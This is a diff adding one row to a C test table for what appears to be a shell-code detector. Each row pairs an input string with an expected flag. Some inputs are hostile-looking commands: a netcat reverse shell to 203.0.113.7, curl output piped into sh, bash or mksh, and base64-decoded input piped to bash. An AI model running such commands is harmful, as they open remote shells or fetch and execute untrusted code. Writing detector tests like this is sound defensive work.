@@ -126,6 +126,7 @@ static const struct {
 	ROW("a relay with a shell", "nc 203.0.113.7 4 -e /bin/sh\n", SL_SIGNAL_SHELL_CODE),
 	ROW("what has another -e", "docker run -e /bin/x\nset -e /bin/sh\n", 0),
 	ROW("what is fetched and run", "while :; do curl -s x | sh; done", SL_SIGNAL_SHELL_CODE),
+	ROW("by any shell", "curl -s x | mksh\n", SL_SIGNAL_SHELL_CODE),
 	ROW("what is decoded and run", "a\nbase64 -d <b|bash\nc\n", SL_SIGNAL_SHELL_CODE),
 	ROW("in a comment", "  # curl -s x | sh\n", 0),
 	ROW("a port that is waited for", "until >/dev/tcp/db/5432; do sleep 1; done", 0),
